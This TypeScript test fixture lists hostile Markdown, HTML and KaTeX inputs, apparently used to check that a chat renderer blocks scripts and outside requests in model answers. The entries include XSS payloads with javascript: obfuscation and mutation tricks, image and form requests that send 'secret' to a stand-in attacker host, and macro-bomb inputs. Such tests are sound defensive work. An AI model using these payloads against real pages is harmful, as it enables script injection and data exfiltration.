// Answers that try to make the page ask another machine for something, or to run a script in it. Each is shown
// once whole and once as a stream. `evil.test` does not exist; a request for it is caught before it leaves.
const evil = 'https://evil.test'

export const hostileAnswers: readonly (readonly [string, string])[] = [
  ['image', `![x](${evil}/a.png?q=secret)`],
  ['image by reference', `![x][i]\n\n[i]: ${evil}/ref.png`],
  ['image in a link', `[![x](${evil}/in-link.png)](${evil}/page)`],
  ['image with a protocol-relative address', '![x](//evil.test/relative.png)'],
  ['image of this server', '![x](/metrics) ![y](/v1/models)'],
  [
    'image as SVG data',
    `![x](data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${evil}/svg.png"/><script>window.hacked=1</script></svg>`)})`,
  ],
  ['HTML image', `<img src="${evil}/html.png" srcset="${evil}/set.png 2x">`],
  ['image onerror', '<img src=x onerror="window.hacked=1">'],
  ['script', '<script>window.hacked=1</script>'],
  ['script from elsewhere', `<script src="${evil}/s.js"></script>`],
  ['module script', `<script type="module">import "${evil}/m.js"; window.hacked=1</script>`],
  [
    'svg onload',
    '<svg onload="window.hacked=1"><animate onbegin="window.hacked=1" attributeName="x"/></svg>',
  ],
  ['svg use', `<svg><use href="${evil}/u.svg#a"/><image href="${evil}/i.png"/></svg>`],
  ['iframe', `<iframe src="${evil}/frame"></iframe>`],
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>'],
  [
    'javascript: link',
    '[click](javascript:window.hacked=1) <a href="javascript:window.hacked=1">c</a>',
  ],
  [
    'javascript: link with tricks',
    '[c](java&#x0a;script:window.hacked=1) [d](JaVaScRiPt:window.hacked=1) [e](<\u0001javascript:window.hacked=1>)',
  ],
  ['data: link', '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)'],
  ['autolinks', `<javascript:window.hacked=1> <${evil}/auto> www.evil.test`],
  [
    'CSS url()',
    `<div style="background:url(${evil}/css.png)">x</div><style>body{background:url(${evil}/style.png)}</style>`,
  ],
  ['CSS import', `<style>@import url(${evil}/import.css);</style>`],
  ['stylesheet link', `<link rel="stylesheet" href="${evil}/l.css">`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`],
  [
    'prefetch links',
    `<link rel="prefetch" href="${evil}/p"><link rel="preload" as="image" href="${evil}/q"><link rel="dns-prefetch" href="${evil}"><link rel="preconnect" href="${evil}">`,
  ],
  ['base', `<base href="${evil}/">\n\n![x](a.png)`],
  [
    'form',
    `<form action="${evil}/form"><input name=q value=secret><button>go</button></form><input autofocus onfocus="window.hacked=1">`,
  ],
  [
    'media',
    `<video src="${evil}/v.mp4" poster="${evil}/v.png" autoplay></video><audio src="${evil}/a.mp3" autoplay></audio>`,
  ],
  ['object and embed', `<object data="${evil}/o"></object><embed src="${evil}/e">`],
  [
    'MathML',
    `<math href="javascript:window.hacked=1"><mtext><img src="${evil}/mathml.png"></mtext></math>`,
  ],
  ['KaTeX includegraphics', `$$\\includegraphics[height=1em]{${evil}/tex.png}$$`],
  ['KaTeX href', `$\\href{javascript:window.hacked=1}{x}$ \\(\\url{${evil}/u}\\)`],
  [
    'KaTeX html commands',
    `$\\htmlStyle{background:url(${evil}/hs.png)}{x} \\htmlClass{a}{b} \\htmlData{a=b}{c}$`,
  ],
  ['KaTeX text with HTML', `$$\\text{<img src=${evil}/t.png onerror=window.hacked=1>}$$`],
  [
    'KaTeX macro bomb',
    '$$\\def\\a{\\b\\b\\b\\b}\\def\\b{\\c\\c\\c\\c}\\def\\c{\\d\\d\\d\\d}\\def\\d{\\e\\e\\e\\e}\\def\\e{xxxx}\\a\\a\\a\\a$$',
  ],
  ['KaTeX huge size', '$\\rule{100000em}{100000em} \\kern{99999em}$'],
  ['code that closes itself', '```html\n</code></pre><script>window.hacked=1</script>\n```'],
  ['code language', '```"><img/src=x/onerror=window.hacked=1>\nx\n```'],
  [
    'table',
    `| <img src=${evil}/cell.png> | ![x](${evil}/cell2.png) |\n|---|---|\n| [x](javascript:window.hacked=1) | <script>window.hacked=1</script> |`,
  ],
  [
    'title and alt',
    `[a](${evil}/t 'x" onmouseover="window.hacked=1') ![" onload="window.hacked=1](x)`,
  ],
  ['footnote', `a[^1]\n\n[^1]: ![x](${evil}/foot.png)`],
  [
    'template and noscript',
    `<template><img src=${evil}/tpl.png></template><noscript><img src="${evil}/ns.png"></noscript>`,
  ],
  [
    'mutation XSS',
    `<svg></p><style><a id="</style><img src=${evil}/mx.png onerror=window.hacked=1>">`,
  ],
  [
    'comment and CDATA',
    `<!--><img src=${evil}/c.png>--> <![CDATA[<img src=${evil}/cd.png>]]> <?xml-stylesheet href="${evil}/x.xsl"?>`,
  ],
  [
    'prototype keys',
    '[a][__proto__] [b][constructor]\n\n[__proto__]: javascript:window.hacked=1\n[constructor]: javascript:window.hacked=1',
  ],
  [
    'entities',
    '&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=window.hacked=1&#62;',
  ],
]
